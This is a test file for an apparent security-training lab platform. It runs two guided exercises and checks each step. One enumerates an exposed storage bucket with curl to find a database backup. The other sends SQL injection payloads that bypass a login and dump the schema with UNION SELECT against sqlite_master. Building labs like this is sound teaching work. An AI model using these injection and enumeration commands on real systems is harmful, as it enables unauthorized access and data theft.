import { expect, test } from 'vitest'
import { atTerminal } from './lab-kit/testing/atTerminal.ts'
import type { Learner } from './lab-kit/testing/atTerminal.ts'

/** Follows a guide to its end in the page's terminal: each block that runs is pressed, in order, and every check ticks. */
const follow = (lab: string, way: (learner: Learner) => Promise<void>, options?: { isTimed: boolean }) =>
  test(`the guide of ${lab} works in the page’s terminal, block by block`, async () => {
    const learner = await atTerminal(lab, options)
    try {
      await way(learner)
      expect(learner.left()).toEqual([])
      await expect.poll(() => learner.target.openChecks()).toEqual([])
    } finally {
      await learner.stop()
    }
  })

/** The last code that a text tells. */
const codeIn = (text: string): string => [...text.matchAll(/mission-code: (\w+)/g)].at(-1)?.[1] ?? 'no code was printed'

follow('exposed-bucket', async ({ press, type }) => {
  expect(await press()).toMatch(/src="\/[\w-]+\/images/)
  expect(await press()).toMatch(/^[\w-]+\n$/)
  expect(await press()).toContain('<Key>')
  const rest = await type(
    'next=$(curl -s "$LAB_URL/$BUCKET/?list-type=2" | grep -o "<NextContinuationToken>[^<]*" | cut -d">" -f2); ' +
      'curl -s "$LAB_URL/$BUCKET/?list-type=2&continuation-token=$next" | grep -o "<Key>[^<]*"',
  )
  const key = /<Key>(website-backup.*\.sql)/.exec(rest)?.[1] ?? ''
  const found = await press(key)
  expect(await press(codeIn(found))).toContain('Recorded')
  expect(await press()).toContain('s3:ListBucket')
  await press('images/*')
  expect(await press()).toBe('204\n')
  expect(await press()).toContain('Mission complete')
})

follow('front-desk-injection', async ({ press, type }) => {
  expect(await press()).toMatch(/^HTTP\/1\.1 (?:200|30[23])/)
  expect(await type(`curl -s "$LAB_URL/login" --data-urlencode "username=O'Brien" -d password=x`)).toContain('SELECT')
  await type(`curl -s -c jar "$LAB_URL/login" --data-urlencode "username=' OR role = 'manager' -- " -d password=x`)
  expect(await type('curl -s -b jar "$LAB_URL/me"')).toContain('manager')
  await type(`curl -s -b jar -G "$LAB_URL/guests" --data-urlencode 'name=Ada'`)
  await press()
  console.log(await type(`curl -s -b jar -G "$LAB_URL/guests" --data-urlencode "name=x' UNION SELECT name, sql, 1 FROM sqlite_master -- "`))
  expect(await press()).toContain('"?')
})
